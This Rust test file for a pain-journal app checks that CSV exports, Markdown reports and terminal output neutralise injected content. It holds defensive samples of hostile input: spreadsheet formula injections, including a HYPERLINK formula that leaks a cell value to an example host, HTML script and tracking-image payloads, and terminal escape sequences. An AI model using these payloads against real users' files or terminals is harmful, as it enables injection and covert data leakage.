//! Exports are inert where they are opened (a spreadsheet runs no formula, a Markdown viewer
//! fetches nothing), text printed for people cannot act on the terminal, and import is as strict
//! as typing.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::fs;
use std::path::Path;
use std::process::Command;

use common::*;
use painlog::analysis::{EffectSettings, JournalIndex, effects};
use painlog::model::{
    CareKind, CareVisit, Day, Exercise, ItemId, Journal, Medication, Score, Session, SessionKind,
    Worse, check_item_name,
};
use painlog::report::{self, ReportRequest, Sections, csv_io};

/// Texts a spreadsheet would run as formulas (OWASP's list), and texts that must come back as
/// typed next to them.
const HOSTILE: [&str; 12] = [
    "=1+1",
    "+SUM(1;2)",
    "@SUM(1)",
    "-3+3",
    "=HYPERLINK(\"http://example.com/?\"&B2;\"x\")",
    "\t=1+1",
    "\r=1+1",
    "'quoted",
    "'=1+1",
    "''",
    "plain, with a comma",
    "ends with =1+1",
];

/// The hostile texts a list item's name may hold (no `;` or `=`, no control characters).
fn hostile_names() -> Vec<&'static str> {
    HOSTILE
        .into_iter()
        .filter(|text| check_item_name("name", text).is_ok())
        .collect()
}

fn hostile_journal() -> Journal {
    let mut journal = Journal::new();
    for name in hostile_names() {
        journal.add_measure(name, Worse::Higher).unwrap();
        journal
            .add_exercise(Exercise {
                id: ItemId(0),
                name: name.to_owned(),
                session: None,
                per_week: None,
            })
            .unwrap();
    }
    for (index, text) in HOSTILE.iter().enumerate() {
        let date = date("2026-05-01") + chrono::Days::new(index as u64);
        let one_line = text.replace(['\t', '\r'], "");
        let name = if check_item_name("name", text).is_ok() {
            (*text).to_owned()
        } else {
            format!("medication {index}")
        };
        let medication = journal
            .add_medication(Medication {
                id: ItemId(0),
                name,
                dose: one_line.clone(),
                as_needed: false,
                from: None,
                until: None,
            })
            .unwrap();
        journal
            .add_care_visit(CareVisit {
                id: ItemId(0),
                date,
                kind: CareKind::Other,
                name: one_line.clone(),
                note: (*text).to_owned(),
            })
            .unwrap();
        let mut day = Day::empty(date);
        day.pain = score(3);
        day.note = (*text).to_owned();
        day.took.insert(medication);
        if let Some(exercise) = journal.exercise_named(text) {
            day.did.insert(exercise.id);
        }
        if let Some(measure) = journal.measure_named(text) {
            day.measures.insert(measure.id, Score::new(4).unwrap());
        }
        journal.set_day(day);
        let start = format!("2026-05-{:02} 10:00", index + 1);
        let mut session = session(&start, SessionKind::Other(one_line.clone()));
        session.therapist = Some(one_line);
        session.note = (*text).to_owned();
        journal.add_session(session);
    }
    journal
}

/// The cell as painlog writes it: with an apostrophe before a text a spreadsheet would run.
fn guarded(text: &str) -> String {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r', '\'']) {
        format!("'{text}")
    } else {
        text.to_owned()
    }
}

/// The records of a CSV text, header included.
fn records(text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|record| record.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

#[test]
fn csv_cells_that_would_run_as_formulas_start_with_an_apostrophe_and_come_back_as_typed() {
    let journal = hostile_journal();
    let folder = tempfile::tempdir().unwrap();
    let journal_path = folder.path().join("journal.ron");
    let written =
        csv_io::export_csv(&journal, None, &folder.path().join("csv"), &journal_path).unwrap();
    let texts: Vec<String> = written
        .iter()
        .map(|path| fs::read_to_string(path).unwrap())
        .collect();
    let names = hostile_names();
    let days = records(&texts[0]);
    let note = days[0].iter().position(|c| c == "note").unwrap();
    let took = days[0].iter().position(|c| c == "medications").unwrap();
    for (record, text) in days[1..].iter().zip(HOSTILE) {
        assert_eq!(record[note], guarded(text), "{text:?}");
        if names.contains(&text) {
            assert_eq!(record[took], guarded(text), "{text:?}");
            assert_eq!(record[took + 1], guarded(text), "{text:?}");
        }
    }
    for (file, column, expected) in [
        (2, 1, names.iter().map(|n| guarded(n)).collect::<Vec<_>>()),
        (4, 1, names.iter().map(|n| guarded(n)).collect()),
        (
            3,
            2,
            HOSTILE
                .map(|t| guarded(&t.replace(['\t', '\r'], "")))
                .to_vec(),
        ),
        (
            5,
            3,
            HOSTILE
                .map(|t| guarded(&t.replace(['\t', '\r'], "")))
                .to_vec(),
        ),
        (5, 4, HOSTILE.map(guarded).to_vec()),
    ] {
        let cells: Vec<String> = records(&texts[file])[1..]
            .iter()
            .map(|record| record[column].clone())
            .collect();
        assert_eq!(cells, expected, "{}", written[file].display());
    }
    // Import reverses exactly that, and a second export is byte-identical.
    let mut back = Journal::new();
    let read = csv_io::read_import(Some(&written[0]), Some(&written[1]), now()).unwrap();
    csv_io::import_csv(&mut back, read).unwrap();
    let notes: Vec<&str> = back.days().map(|day| day.note.as_str()).collect();
    assert_eq!(notes, HOSTILE);
    assert_eq!(back, journal);
    let again =
        csv_io::export_csv(&back, None, &folder.path().join("again"), &journal_path).unwrap();
    for (first, second) in texts.iter().zip(&again) {
        assert_eq!(&fs::read_to_string(second).unwrap(), first);
    }
    // A hand-written cell that starts with an apostrophe painlog would not have added keeps it.
    let hand = "date,pain,worst_pain,stiffness,sleep,stress,regions,note\r\n2026-05-01,3,,,,,,'Tis better\r\n";
    let days = csv_io::parse_days(hand, "days.csv", today()).unwrap();
    assert_eq!(days.days()[0].note, "'Tis better");
}

/// What LibreOffice Calc makes of a CSV file: its cells as Calc reads them, exported again as
/// CSV (Calc writes the value of a formula it evaluated).
fn as_calc_reads_it(csv_path: &Path) -> Vec<Vec<String>> {
    let soffice = ["soffice", "libreoffice"]
        .into_iter()
        .find(|name| {
            Command::new(name)
                .arg("--version")
                .output()
                .is_ok_and(|o| o.status.success())
        })
        .expect(
            "LibreOffice Calc is needed for this test: apt-get install libreoffice-calc-nogui \
             (.ci/run installs it)",
        );
    let work = tempfile::tempdir().unwrap();
    let profile = work.path().join("profile");
    let out = work.path().join("out");
    let status = Command::new(soffice)
        .arg(format!(
            "-env:UserInstallation=file://{}",
            profile.display()
        ))
        .args(["--headless", "--norestore", "--convert-to"])
        // Comma separated, double quotes, UTF-8 (76), first line 1, formulas evaluated as a
        // person opening the file would have them.
        .arg("csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1")
        .arg("--infilter=CSV:44,34,76,1,,1033,false,false,false,false,true")
        .arg("--outdir")
        .arg(&out)
        .arg(csv_path)
        .env("HOME", work.path())
        .output()
        .unwrap();
    assert!(status.status.success(), "{status:?}");
    // One file comes out (named after the input and, with some versions, its sheet).
    let converted = fs::read_dir(&out).unwrap().next().unwrap().unwrap().path();
    let text = fs::read_to_string(&converted).unwrap();
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes())
        .records()
        .map(|record| record.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

#[test]
fn a_real_spreadsheet_evaluates_no_formula_from_an_export() {
    let journal = hostile_journal();
    let folder = tempfile::tempdir().unwrap();
    let journal_path = folder.path().join("journal.ron");
    let written =
        csv_io::export_csv(&journal, None, &folder.path().join("csv"), &journal_path).unwrap();
    let (days, sessions) = (&written[0], &written[1]);
    // Calc shows each text (with or without the apostrophe), never a value it computed.
    let same = |cell: &str, text: &str| {
        cell.trim_start_matches('\'').trim() == text.trim_start_matches('\'').trim()
    };
    let rows = as_calc_reads_it(days);
    assert_eq!(rows.len(), HOSTILE.len() + 1);
    let note = rows[0].iter().position(|c| c == "note").unwrap();
    let took = rows[0].iter().position(|c| c == "medications").unwrap();
    let names = hostile_names();
    for (row, text) in rows[1..].iter().zip(HOSTILE) {
        assert!(
            same(&row[note], text),
            "note {text:?} became {:?}",
            row[note]
        );
        if names.contains(&text) {
            for column in [took, took + 1] {
                assert!(
                    same(&row[column], text),
                    "{text:?} became {:?}",
                    row[column]
                );
            }
        }
    }
    // The lists: names, doses, care visits' names and notes.
    for (file, columns, expected) in [
        (2, &[1][..], names.clone()),
        (4, &[1], names.clone()),
        (3, &[2], HOSTILE.to_vec()),
        (5, &[3, 4], HOSTILE.to_vec()),
    ] {
        let rows = as_calc_reads_it(&written[file]);
        assert_eq!(
            rows.len(),
            expected.len() + 1,
            "{}",
            written[file].display()
        );
        for (row, text) in rows[1..].iter().zip(&expected) {
            let text = text.replace(['\t', '\r'], "");
            for column in columns {
                let cell = &row[*column];
                assert!(
                    same(cell, &text),
                    "{}: {text:?} became {cell:?}",
                    written[file].display()
                );
            }
        }
    }
    let rows = as_calc_reads_it(sessions);
    assert_eq!(rows.len(), HOSTILE.len() + 1);
    for (row, text) in rows[1..].iter().zip(HOSTILE) {
        let name = text.replace(['\t', '\r'], "");
        assert!(same(&row[3], &name), "kind {name:?} became {:?}", row[3]);
        assert!(
            same(&row[5], &name),
            "therapist {name:?} became {:?}",
            row[5]
        );
        assert!(same(&row[13], text), "note {text:?} became {:?}", row[13]);
    }
}

/// Page one of a report on `journal` as Markdown, with `name` and `message`.
fn markdown(journal: &Journal, name: &str, message: &str) -> String {
    let index = JournalIndex::new(journal);
    let effects = effects(journal, &index, EffectSettings::default());
    let request = ReportRequest {
        period: painlog::analysis::DayRange::new(date("2026-05-01"), date("2026-06-15")),
        sections: Sections::default(),
        message: message.to_owned(),
        name: Some(name.to_owned()),
        made: now(),
    };
    report::to_markdown(&report::summarize_period(
        journal, &index, &effects, &request,
    ))
}

#[test]
fn markdown_keeps_user_text_as_text_no_html_link_or_image_survives() {
    use pulldown_cmark::{Event, Options, Parser, Tag};
    let attacks = [
        "<img src=http://example.com/track.png>",
        "![x](http://example.com/track.png)",
        "<script>alert(1)</script>",
        "[click](http://example.com)",
        "<http://example.com>",
        "http://example.com/bare",
        "www.example.com",
        "someone@example.com",
        "**bold** _it_ `code` ~~gone~~ | pipe",
        "# heading",
        "1. a list",
        "- a list",
        "&lt;img&gt; &amp;",
        "back\\slash",
    ];
    let mut journal = Journal::new();
    journal.set_day(day("2026-06-01", 4));
    for (index, attack) in attacks.iter().enumerate() {
        let mut session: Session = session(
            &format!("2026-06-{:02} 10:00", index + 2),
            SessionKind::Other((*attack).to_owned()),
        );
        session.therapist = Some((*attack).to_owned());
        journal.add_session(session);
    }
    let name = attacks[0];
    let message = attacks.join("\n");
    let md = markdown(&journal, name, &message);
    let mut text = String::new();
    for event in Parser::new_ext(&md, Options::all()) {
        match event {
            Event::Html(html) | Event::InlineHtml(html) => panic!("raw HTML survived: {html}"),
            Event::Start(Tag::Link { dest_url, .. }) => panic!("a link survived: {dest_url}"),
            Event::Start(Tag::Image { dest_url, .. }) => panic!("an image survived: {dest_url}"),
            Event::Text(t) | Event::Code(t) => text.push_str(&t),
            Event::SoftBreak | Event::HardBreak => text.push('\n'),
            _ => {}
        }
    }
    for attack in attacks {
        assert!(
            text.contains(attack),
            "{attack:?} not shown as typed in:\n{text}"
        );
    }
    // Only painlog's own headings and lists: none from the message.
    let headings = Parser::new_ext(&md, Options::all())
        .filter(|e| matches!(e, Event::Start(Tag::Heading { .. })))
        .count();
    assert_eq!(headings, 4, "{md}");
}

#[test]
fn text_printed_for_people_shows_escapes_instead_of_acting_on_the_terminal() {
    let (_folder, path) = journal_in_temp();
    let mut journal = Journal::new();
    // As a journal edited by hand (or imported by an older painlog) may hold them.
    let mut session = session(
        "2026-06-01 10:00",
        SessionKind::Other("Hot\u{1b}]0;pwned\u{7}".to_owned()),
    );
    session.therapist = Some("Anna\u{202e}greB\u{1b}[2J".to_owned());
    journal.add_session(session);
    let mut day = Day::empty(date("2026-06-01"));
    day.note = "note\u{1b}[31mred".to_owned();
    day.pain = score(2);
    journal.set_day(day);
    save(&path, &journal);
    for args in [
        &["session", "list"][..],
        &["effects"],
        &["log", "--date", "2026-06-01", "--pain", "3"],
        &["session", "remove", "1"],
    ] {
        let output = run_cli(&path, args);
        assert!(output.status.success(), "{args:?}: {output:?}");
        let printed = [output.stdout.clone(), output.stderr.clone()].concat();
        let printed = String::from_utf8(printed).unwrap();
        assert!(!printed.contains('\u{1b}'), "{args:?}: {printed:?}");
        assert!(!printed.contains('\u{202e}'), "{args:?}: {printed:?}");
        assert!(!printed.contains('\u{7}'), "{args:?}: {printed:?}");
    }
    // JSON stays exact: the same characters, escaped the JSON way.
    save(&path, &journal);
    let output = run_cli(&path, &["session", "list", "--json"]);
    let value: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(value[0]["therapist"], "Anna\u{202e}greB\u{1b}[2J");
    let output = run_cli(&path, &["session", "list"]);
    let printed = String::from_utf8(output.stdout).unwrap();
    assert!(printed.contains("Anna\\u{202e}greB\\u{1b}[2J"), "{printed}");
}

// ---------------------------------------------------------------------------------------------
// Import is as strict as typing
// ---------------------------------------------------------------------------------------------

const DAYS_HEADER: &str = "date,pain,worst_pain,stiffness,sleep,stress,regions,note";
const SESSIONS_HEADER: &str = "id,start,kind,kind_name,minutes,therapist,pressure,focus,cost,currency,pain_before,pain_after,soreness,note";

#[test]
fn import_refuses_what_the_window_and_the_command_line_refuse() {
    let (folder, path) = journal_in_temp();
    let mut journal = Journal::new();
    journal.set_day(day("2026-06-01", 4));
    save(&path, &journal);
    let before = fs::read(&path).unwrap();
    let later_today = now() + chrono::Duration::minutes(90);
    let long_note = "n".repeat(5001);
    let long_name = "t".repeat(101);
    let later = later_today.format("%Y-%m-%dT%H:%M").to_string();
    let day_cases: Vec<(String, &str)> = vec![
        ("2026-05-01,3,,,,,,esc\u{1b}[2J".to_owned(), "U+001B"),
        ("2026-05-01,3,,,,,,nul\u{0}".to_owned(), "U+0000"),
        ("2026-05-01,3,,,,,,\u{202e}reversed".to_owned(), "U+202E"),
        (format!("2026-05-01,3,,,,,,{long_note}"), "5001 characters"),
    ];
    for (row, words) in day_cases {
        let file = folder.path().join("days.csv");
        fs::write(&file, format!("{DAYS_HEADER}\r\n{row}\r\n")).unwrap();
        let output = run_cli(&path, &["import", file.to_str().unwrap()]);
        let message = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(2), "{row:?}: {message}");
        assert!(
            message.contains("line 2") && message.contains(words),
            "{message}"
        );
        assert!(message.contains("Nothing was imported"), "{message}");
        assert!(!message.contains('\u{1b}') && !message.contains('\u{202e}'));
        assert_eq!(fs::read(&path).unwrap(), before);
    }
    let session_cases: Vec<(String, &str)> = vec![
        (
            ",2026-05-01T10:00,swedish,,60,Anna\u{1b}]0;x\u{7},,,,,,,,".to_owned(),
            "U+001B",
        ),
        (
            ",2026-05-01T10:00,other,Hot\u{2066}stone,60,,,,,,,,,".to_owned(),
            "U+2066",
        ),
        (
            format!(",2026-05-01T10:00,swedish,,60,{long_name},,,,,,,,"),
            "101 characters",
        ),
        (
            format!(",2026-05-01T10:00,swedish,,60,,,,,,,,,{long_note}"),
            "5001 characters",
        ),
        (format!(",{later},swedish,,60,,,,,,,,,"), "later than now"),
    ];
    for (row, words) in session_cases {
        let file = folder.path().join("sessions.csv");
        fs::write(&file, format!("{SESSIONS_HEADER}\r\n{row}\r\n")).unwrap();
        let output = run_cli(&path, &["import", file.to_str().unwrap()]);
        let message = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(2), "{row:?}: {message}");
        // Near midnight, "later" is tomorrow: refused as a future date.
        let words_found = message.contains(words) || message.contains("is in the future");
        assert!(message.contains("line 2") && words_found, "{message}");
        assert_eq!(fs::read(&path).unwrap(), before);
    }
}

#[test]
fn importing_sixty_thousand_sessions_takes_moments() {
    // Linear: the old import (quadratic) took minutes for this many in a debug build.
    let (folder, path) = journal_in_temp();
    let mut csv = format!("{SESSIONS_HEADER}\r\n");
    let first = chrono::NaiveDate::from_ymd_opt(1950, 1, 1).unwrap();
    for index in 0..60_000_u64 {
        let start = first.and_hms_opt(0, 0, 0).unwrap() + chrono::Duration::hours(index as i64 * 7);
        csv.push_str(&format!(
            ",{},swedish,,60,Therapist {},,,,,,,,note {index}\r\n",
            start.format("%Y-%m-%dT%H:%M"),
            index % 13
        ));
    }
    let file = folder.path().join("sessions.csv");
    fs::write(&file, csv).unwrap();
    let started = std::time::Instant::now();
    let output = run_cli(&path, &["import", file.to_str().unwrap()]);
    assert!(output.status.success(), "{output:?}");
    assert_eq!(load(&path).sessions().len(), 60_000);
    // Generous for a debug build on a busy machine; quadratic work would need minutes.
    assert!(
        started.elapsed() < std::time::Duration::from_secs(60),
        "{:?}",
        started.elapsed()
    );
}
